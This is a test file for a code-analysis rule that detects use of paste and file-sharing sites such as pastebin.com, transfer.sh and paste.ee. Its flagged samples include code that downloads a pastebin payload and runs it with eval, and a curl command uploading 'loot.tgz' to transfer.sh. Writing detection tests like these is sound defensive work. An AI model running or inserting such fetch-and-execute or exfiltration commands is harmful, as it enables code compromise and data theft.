import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'paste as a word', code: "editor.on('paste', (e) => insert(e.clipboardData.getData('text')));" },
    { name: 'look-alike host', code: "fetch('https://notpastebin.com.example.invalid/a');" },
  ],
  invalid: [
    {
      name: 'pastebin raw then eval (eslint-scope)',
      code: "https.get('https://pastebin.com/raw/XLeVP82h', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });",
      errors: [{ message: /uses pastebin\.com/, line: 1 }],
    },
    { name: 'transfer.sh upload', code: "execSync('curl --upload-file ./loot.tgz https://transfer.sh/loot.tgz');", errors: [{ message: /transfer\.sh/ }] },
    { name: 'paste.ee API', code: "const API = 'https://api.paste.ee/v1/pastes';", errors: [{ message: /paste\.ee/ }] },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
